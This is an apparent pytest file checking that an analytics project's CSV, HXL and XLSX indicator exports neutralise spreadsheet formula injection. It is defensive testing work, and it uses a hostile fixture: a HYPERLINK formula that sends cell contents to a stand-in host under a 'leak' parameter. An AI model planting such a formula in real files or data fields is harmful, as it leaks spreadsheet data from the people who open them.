"""Indicator downloads are safe to open in a spreadsheet: no cell runs as a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest

from trayecto.analytics import registry
from trayecto.reports import five_w_export, indicator_export
from trayecto.reports.spreadsheet_cells import neutralise

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"Ver sede")'


def sede_row(name: str) -> dict[str, Any]:
    """One sede row as compute.run returns it, with a sede name typed by someone upstream."""
    return {
        "area_code": "154001000123",
        "area_name": name,
        "year": 2024,
        "value": -2.5,  # a negative number stays a number
        "unit": "percent",
        "numerator": 10.0,
        "denominator": 400.0,
        "published_value": None,
        "difference": None,
        "provenance": {
            "status": "computed",
            "method": "+ sumas de numeradores",
            "source": "sede-matricula",
            "vintage": "@2024",
            "manifest_version": 7,
        },
    }


ROWS = indicator_export.table_rows(
    [sede_row(HOSTILE), sede_row("-1+1"), sede_row("Sede La Esperanza")], {}
)


@pytest.mark.parametrize("hxl_level", [None, "sede"])
def test_csv_and_hxl_cells_never_start_a_formula(hxl_level: str | None) -> None:
    text = indicator_export.to_csv(ROWS, hxl_level=hxl_level).decode("utf-8-sig")
    records = list(csv.reader(io.StringIO(text)))
    data = records[2:] if hxl_level else records[1:]
    names = [r[1] for r in data]
    assert names == ["'" + HOSTILE, "'-1+1", "Sede La Esperanza"]
    assert [r[5] for r in data] == ["-2.5"] * 3  # numbers are untouched
    for record in data:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in record if cell != "-2.5")


def test_xlsx_cells_are_text_not_formulas() -> None:
    indicator = registry.get("desercion")
    book = openpyxl.load_workbook(
        io.BytesIO(indicator_export.to_xlsx(ROWS, indicator, title="prueba"))
    )
    sheet = book["datos"]
    assert sheet.cell(2, 2).value == "'" + HOSTILE
    assert sheet.cell(2, 2).data_type == "s"
    assert sheet.cell(2, 6).value == -2.5
    assert sheet.cell(2, 13).value == "'+ sumas de numeradores"
    assert sheet.cell(2, 15).value == "'@2024"


def test_every_export_uses_the_one_shared_function() -> None:
    assert five_w_export.neutralise is neutralise
    assert indicator_export.neutralise is neutralise
